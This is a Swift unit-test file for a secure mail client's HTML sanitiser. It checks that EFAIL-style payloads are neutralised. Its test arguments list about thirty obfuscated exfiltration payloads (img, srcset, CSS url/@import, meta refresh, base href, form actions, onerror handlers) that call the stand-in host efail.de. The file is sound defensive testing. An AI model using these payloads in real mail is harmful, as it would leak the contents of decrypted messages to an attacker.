import Foundation
import Testing
@testable import SecureMail

@Suite struct HTMLNeutraliserTests {
    private func neutralise(_ html: String) -> String { HTMLNeutraliser.neutralise(html) }

    /// True when a tag of the output still refers to the attacker's host outside a blocked
    /// attribute, or CSS can still load a URL.
    private func loadsRemoteContent(_ html: String) -> Bool {
        let withoutBlocked = html.replacing(/data-securemail-blocked-[a-z-]+="[^"]*"/, with: "")
        let live = withoutBlocked.matches(of: /<[a-zA-Z][^>]*>/).map { $0.output.lowercased() }
        if live.contains(where: { $0.contains("efail.de") || $0.contains("x.png") }) { return true }
        let css = withoutBlocked.lowercased().replacingOccurrences(of: "blocked-url(", with: "").replacingOccurrences(of: "@blocked-import", with: "")
            .replacingOccurrences(of: "blocked-image-set(", with: "")
        return css.contains("url(") || css.contains("@import") || css.contains("image-set(")
    }

    @Test(arguments: [
        // The EFAIL direct exfiltration payloads (USENIX Security 2018, figure 1 and variants).
        "<img src=\"http://efail.de/",
        "<img src=\"http://efail.de/\nSecret meeting\nTomorrow 9pm\n\">",
        "<img src='https://efail.de/Secret'>",
        "<img src=//efail.de/Secret>",
        "<img src=\"ftp://efail.de/Secret\">",
        "<IMG SRC = \"HTTP://efail.de/Secret\">",
        "<img\nsrc=\"http://efail.de/x\">",
        "<img/src=\"http://efail.de/x\">",
        "<img src=\"&#104;ttp://efail.de/x\">",
        "<img src=\"http&colon;//efail.de/x\">",
        "<img src=\" \t//efail.de/x\">",
        "<img srcset=\"http://efail.de/x 1x, http://efail.de/y 2x\">",
        "<picture><source srcset=\"//efail.de/x\"></picture>",
        "<body background=\"http://efail.de/x\">",
        "<table background=\"//efail.de/x\"><tr><td>x</td></tr></table>",
        "<div style=\"background-image: url(http://efail.de/x)\">x</div>",
        "<div style=\"background: u&#114;l(http://efail.de/x)\">x</div>",
        "<div style=\"background: \\75 rl(http://efail.de/x)\">x</div>",
        "<style>@import 'http://efail.de/x.css'; p { background: URL(\"//efail.de/y\") }</style><p>x</p>",
        "<style>p { background: image-set(\"http://efail.de/x\" 1x) }</style>",
        "<meta http-equiv=\"refresh\" content=\"0; url=http://efail.de/x\">",
        "<link rel=\"stylesheet\" href=\"http://efail.de/x.css\">",
        "<base href=\"http://efail.de/\"><img src=\"x.png\">",
        "<form action=\"http://efail.de/x\"><button formaction=\"//efail.de/y\">Send</button></form>",
        "<video poster=\"http://efail.de/x\"></video>",
        "<object data=\"http://efail.de/x\"></object>",
        "<iframe srcdoc=\"<img src=http://efail.de/x>\"></iframe>",
        "<svg><image xlink:href=\"http://efail.de/x\"/></svg>",
        "<img src=\"cid:ok\" onerror=\"this.src='http://efail.de/x'\">",
        "<!--[if mso]><img src=\"http://efail.de/x\"><![endif]-->",
        "<script>new Image().src='http://efail.de/x'</script>",
        "<svg><style><img src=\"http://efail.de/x\"></style></svg>",
        "<a href=\"http://efail.de/x\">click</a>",
    ])
    func efailPayloadsCannotLoadAnything(payload: String) {
        let output = neutralise(payload)
        #expect(!loadsRemoteContent(output), "\(payload) -> \(output)")
    }

    @Test func theClassicUnterminatedPayloadKeepsTheSecretVisible() {
        let output = neutralise("<img src=\"http://efail.de/\nSecret meeting\nTomorrow 9pm\n</body></html>")
        #expect(output.hasPrefix("<img>"))
        #expect(output.contains("Secret meeting\nTomorrow 9pm"))
        #expect(!output.contains("<img src"))
        let comment = neutralise("<p>before</p><!-- swallow\nSecret")
        #expect(comment.contains("Secret"))
        let tag = neutralise("<p>before</p><img src=x alt=\"a\" Secret")
        #expect(tag.contains("Secret"))
        #expect(!tag.contains("<img"))
    }

    @Test func blockedReferencesStayReadableForOperators() {
        let output = neutralise("<img src=\"http://efail.de/x?a=1&amp;b=2\" alt=\"logo\">")
        #expect(output == "<img data-securemail-blocked-src=\"http://efail.de/x?a=1&amp;b=2\" alt=\"logo\">")
    }

    @Test func benignHTMLKeepsItsTextStructureAndInternalReferences() {
        let benign = """
            <!DOCTYPE html><html><head><meta charset="utf-8"><title>Skade</title>\
            <style>p { color: #333; font-family: Arial }</style></head>\
            <body><h1>Skadeanmeldelse</h1><p class="x">Hej, vedhæftet er <b>billeder</b> &amp; kvittering.</p>\
            <img src="cid:image001@01D9" alt="carport"><a href="#top">Til toppen</a> \
            <a href="mailto:kunde@example.dk">Skriv</a><br/><table border="1"><tr><td>1 &lt; 2</td></tr></table></body></html>
            """
        let output = neutralise(benign)
        #expect(output == benign)
        #expect(neutralise("Plain text, no markup: 3 < 4 & 5 > 2") == "Plain text, no markup: 3 < 4 & 5 > 2")
        #expect(neutralise("") == "")
    }

    @Test func hostileMarkupNeverCrashesAndStaysLinear() {
        let inputs = [
            String(repeating: "<", count: 50_000), String(repeating: "<a ", count: 20_000), String(repeating: "<!--", count: 20_000),
            String(repeating: "<p style=\"", count: 10_000), String(repeating: "&#", count: 30_000), "<\u{0}img src=\u{0}>", "<a href=\"\u{FFFD}",
            String(repeating: "<style>", count: 5_000), "<img src=\"&#x110000;\">", "<img src=\"&#99999999999999;\">",
        ]
        for input in inputs {
            _ = neutralise(input)
        }
        #expect(neutralise("<img src=\"&#x110000;\">").contains("blocked"))
    }
}
